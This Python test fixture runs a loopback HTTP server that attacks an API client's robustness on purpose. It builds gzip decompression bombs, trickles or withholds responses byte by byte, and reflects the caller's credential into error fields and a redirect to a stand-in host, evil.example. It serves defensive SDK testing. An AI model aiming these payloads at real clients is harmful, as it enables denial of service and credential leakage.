"""A hostile HTTP/1.1 server on loopback: answers every request in one configured hostile way.

What the sandbox (an honest API emulator) does not do: gzip bombs, trickling headers or bodies
one byte at a time, redirects to ``mailto:`` / ``javascript:`` / ``data:``, a login page
answering 200, echoing the caller's credential in every field of an error, never answering.

Race-free by construction: nothing depends on how fast the client is. A trickle or a hang
goes on until the *client* disconnects (an event: end of file on the connection), and only
gives up after ``GIVE_UP`` seconds -- then it completes the response normally, so a client
that is not bounded gets a success (and a test expecting a timeout fails) instead of hanging.
``VirtualClock`` lets the trickle advance the SDK's deadline clock per byte sent, so when the
deadline passes depends on bytes, not on the machine's speed.

Every request is counted when it has been read completely (before any byte of the answer).
"""

from __future__ import annotations

import asyncio
import json
import struct
import threading
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from functools import cache
from typing import Any, Self

#: A trickle or hang that the client did not cut off ends after this many (real) seconds.
GIVE_UP = 30.0
MIB = 1024 * 1024
LOGIN_PAGE = (
    b"<!DOCTYPE html><html><head><title>Sign in</title></head><body><form method=post>"
    b"<input name=user><input name=password type=password></form></body></html>"
)


class VirtualClock:
    """A monotonic clock that moves only when told to (``advance``); thread-safe."""

    def __init__(self, start: float = 1000.0) -> None:
        self._now = start
        self._lock = threading.Lock()

    def __call__(self) -> float:
        with self._lock:
            return self._now

    def advance(self, seconds: float) -> None:
        with self._lock:
            self._now += seconds


@cache
def gzip_bomb(mebibytes: int) -> bytes:
    """A gzip body that inflates to a valid JSON array of ``mebibytes`` MiB of zeros.

    Every MiB of ``0,`` is compressed once with a full flush (which resets the compressor, so
    the compressed block is the same every time) and repeated: a 1 GiB bomb is ~1 MB and built
    in well under a second.
    """
    chunk = b"0," * (MIB // 2)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = deflate.compress(b"[") + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.compress(b"0]") + deflate.flush(zlib.Z_FINISH)
    crc = zlib.crc32(b"[")
    for _ in range(mebibytes):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(b"0]", crc)
    size = 1 + mebibytes * MIB + 2
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc, size & 0xFFFFFFFF)
    return header + head + block * mebibytes + tail + trailer


@dataclass
class Request:
    """One request as the server read it."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes

    @property
    def credential(self) -> str:
        """What the caller authenticates with: the Authorization value after the scheme, or
        the token in a form body (refresh token, authorization code)."""
        value = self.headers.get("authorization", "")
        form = dict(
            part.split("=", 1) for part in self.body.decode("latin-1").split("&") if "=" in part
        )
        for name in ("refresh_token", "code"):
            if name in form:
                return form[name]
        return value.partition(" ")[2]


@dataclass
class Behaviour:
    """How to answer: a mode (a method name of ``HostileServer``, ``_mode``) and its options."""

    mode: str
    options: dict[str, Any] = field(default_factory=dict)


class HostileServer:
    """Serve hostile answers on ``127.0.0.1`` from a background thread (an asyncio loop).

    ``answer(mode, path=None, **options)`` picks the answer for requests whose path starts with
    ``path`` (or for all others). Modes: ``json`` (200, ``body=``), ``token`` (a valid token
    set), ``bomb`` (``mebibytes=``, ``status=``), ``trickle_body`` / ``trickle_headers``
    (``advance=`` seconds on ``clock`` per byte), ``hang``, ``redirect`` (``location=``),
    ``html`` (a 200 login page), ``echo`` (``status=``: the credential in every field and in
    headers), ``huge_token`` (a 200 token answer of ``mebibytes=`` MiB).
    """

    #: Stand-ins for what the sandbox offers (``helpers.client_kwargs`` reads them).
    token = "hostile-access-token-5d1e7b3a9c"
    organizer_key = "1000000000000000001"

    def __init__(self) -> None:
        self.clock = VirtualClock()
        self._routes: dict[str, Behaviour] = {}
        self._default = Behaviour("json")
        self._lock = threading.Lock()
        self._requests: list[Request] = []
        self._loop: asyncio.AbstractEventLoop | None = None
        self._server: asyncio.Server | None = None
        self._thread: threading.Thread | None = None
        self._stopped: asyncio.Event | None = None
        self.port = 0

    # -- lifecycle -----------------------------------------------------------------------------

    def start(self) -> Self:
        ready = threading.Event()

        async def main() -> None:
            self._stopped = asyncio.Event()
            self._server = await asyncio.start_server(self._handle, "127.0.0.1", 0)
            self.port = self._server.sockets[0].getsockname()[1]
            ready.set()
            async with self._server:
                await self._stopped.wait()

        def run() -> None:
            self._loop = asyncio.new_event_loop()
            self._loop.run_until_complete(main())
            self._loop.close()

        self._thread = threading.Thread(target=run, name="hostile-server", daemon=True)
        self._thread.start()
        if not ready.wait(10):
            raise RuntimeError("hostile server did not start")
        return self

    def stop(self) -> None:
        if self._loop is not None and self._stopped is not None:
            self._loop.call_soon_threadsafe(self._stopped.set)
        if self._thread is not None:
            self._thread.join(10)

    def __enter__(self) -> Self:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def root_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def url(self) -> str:
        """An API base URL on this server."""
        return f"{self.root_url}/G2T/rest"

    @property
    def token_url(self) -> str:
        return f"{self.root_url}/oauth/token"

    # -- configuration and inspection ------------------------------------------------------------

    def answer(self, mode: str, *, path: str | None = None, **options: Any) -> None:
        """Answer requests under ``path`` (every other request if ``None``) with ``mode``."""
        if not hasattr(self, f"_{mode}"):
            raise ValueError(f"unknown mode {mode!r}")
        with self._lock:
            if path is None:
                self._default = Behaviour(mode, options)
            else:
                self._routes[path] = Behaviour(mode, options)

    def reset(self) -> None:
        with self._lock:
            self._routes.clear()
            self._default = Behaviour("json")
            self._requests.clear()

    def requests(self, path: str = "") -> list[Request]:
        """The requests read so far whose path starts with ``path``."""
        with self._lock:
            return [r for r in self._requests if r.path.startswith(path)]

    def count(self, path: str = "") -> int:
        return len(self.requests(path))

    # -- serving ---------------------------------------------------------------------------------

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            method, target, _ = lines[0].split(" ", 2)
            headers = {}
            for line in lines[1:]:
                if ":" in line:
                    name, _, value = line.partition(":")
                    headers[name.strip().lower()] = value.strip()
            body = await reader.readexactly(int(headers.get("content-length", "0")))
            request = Request(method, target.split("?", 1)[0], headers, body)
            with self._lock:
                self._requests.append(request)
                behaviour = next(
                    (b for p, b in self._routes.items() if request.path.startswith(p)),
                    self._default,
                )
            answer: Callable[..., Awaitable[None]] = getattr(self, f"_{behaviour.mode}")
            await answer(request, reader, writer, **behaviour.options)
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass
        finally:
            writer.close()

    @staticmethod
    def _head(status: int, headers: list[tuple[str, str]], length: int | None) -> bytes:
        reason = {200: "OK", 302: "Found", 400: "Bad Request", 403: "Forbidden"}.get(status, "X")
        lines = [f"HTTP/1.1 {status} {reason}", "Connection: close"]
        lines += [f"{name}: {value}" for name, value in headers]
        if length is not None:
            lines.append(f"Content-Length: {length}")
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    async def _send(
        self,
        writer: asyncio.StreamWriter,
        status: int,
        body: bytes = b"",
        headers: list[tuple[str, str]] | None = None,
    ) -> None:
        writer.write(self._head(status, headers or [], len(body)) + body)
        await writer.drain()

    async def _json(
        self, request: Request, reader: Any, writer: asyncio.StreamWriter, body: Any = None
    ) -> None:
        data = json.dumps([] if body is None else body).encode()
        await self._send(writer, 200, data, [("Content-Type", "application/json")])

    async def _token(self, request: Request, reader: Any, writer: asyncio.StreamWriter) -> None:
        tokens = {
            "access_token": "hostile-access-0123456789abcdef",
            "refresh_token": "hostile-refresh-0123456789abcdef",
            "expires_in": 3600,
        }
        await self._send(
            writer, 200, json.dumps(tokens).encode(), [("Content-Type", "application/json")]
        )

    async def _bomb(
        self,
        request: Request,
        reader: Any,
        writer: asyncio.StreamWriter,
        mebibytes: int = 64,
        status: int = 200,
    ) -> None:
        headers = [("Content-Type", "application/json"), ("Content-Encoding", "gzip")]
        await self._send(writer, status, gzip_bomb(mebibytes), headers)

    async def _huge_token(
        self, request: Request, reader: Any, writer: asyncio.StreamWriter, mebibytes: int = 64
    ) -> None:
        """A 200 token answer that is a valid token set followed by MiBs of padding."""
        padding = b" " * MIB
        head = b'{"access_token": "huge-access-0123456789abcdef", "pad": "'
        length = len(head) + mebibytes * MIB + 2
        writer.write(self._head(200, [("Content-Type", "application/json")], length) + head)
        for _ in range(mebibytes):
            writer.write(padding)
            await writer.drain()
        writer.write(b'"}')
        await writer.drain()

    async def _until_disconnected(
        self, reader: asyncio.StreamReader, pieces: list[bytes], writer: asyncio.StreamWriter,
        *, advance: float, interval: float = 0.005,
    ) -> None:  # fmt: skip
        """Send ``pieces`` one by one (advancing the clock after each) until the client hangs
        up; after ``GIVE_UP`` seconds send the rest at once."""
        gone = asyncio.ensure_future(reader.read(1))  # b"" once the client closes
        deadline = asyncio.get_running_loop().time() + GIVE_UP
        try:
            for index, piece in enumerate(pieces):
                if asyncio.get_running_loop().time() >= deadline:
                    writer.write(b"".join(pieces[index:]))
                    await writer.drain()
                    return
                writer.write(piece)
                await writer.drain()
                self.clock.advance(advance)
                done, _ = await asyncio.wait({gone}, timeout=interval)
                if done:
                    return
        finally:
            gone.cancel()

    async def _trickle_body(
        self,
        request: Request,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        advance: float = 0.0,
    ) -> None:
        body = b"[" + b" " * 100_000 + b"]"
        head = self._head(200, [("Content-Type", "application/json")], len(body))
        writer.write(head)
        await writer.drain()
        await self._until_disconnected(
            reader, [body[i : i + 1] for i in range(len(body))], writer, advance=advance
        )

    async def _trickle_headers(
        self,
        request: Request,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        advance: float = 0.0,
    ) -> None:
        padding = [("X-Padding", "p" * 1000)] * 20
        response = self._head(200, [("Content-Type", "application/json"), *padding], 2) + b"[]"
        pieces = [response[i : i + 1] for i in range(len(response))]
        await self._until_disconnected(reader, pieces, writer, advance=advance)

    async def _hang(
        self, request: Request, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        """Never answer (until the client hangs up, or ``GIVE_UP``: then close without one)."""
        try:
            await asyncio.wait_for(reader.read(1), GIVE_UP)
        except TimeoutError:
            pass

    async def _redirect(
        self, request: Request, reader: Any, writer: asyncio.StreamWriter, location: str = ""
    ) -> None:
        await self._send(writer, 302, b"", [("Location", location)])

    async def _html(self, request: Request, reader: Any, writer: asyncio.StreamWriter) -> None:
        await self._send(writer, 200, LOGIN_PAGE, [("Content-Type", "text/html; charset=utf-8")])

    async def _echo(
        self, request: Request, reader: Any, writer: asyncio.StreamWriter, status: int = 400
    ) -> None:
        """The credential in every field of the error body, across the message's 500-character
        cut, in ``X-Request-Id`` and (for redirects) in the ``Location``."""
        secret = request.credential
        body = {
            "errorCode": secret,
            "error": secret,
            "description": "x" * 480 + secret + " was rejected",
            "error_description": secret,
            "incident": secret,
        }
        headers = [
            ("Content-Type", "application/json"),
            ("X-Request-Id", secret),
            ("WWW-Authenticate", f'Bearer error="{secret}"'),
        ]
        if 300 <= status < 400:
            headers.append(("Location", f"https://evil.example/{secret}/x?token={secret}"))
        await self._send(writer, status, json.dumps(body).encode(), headers)
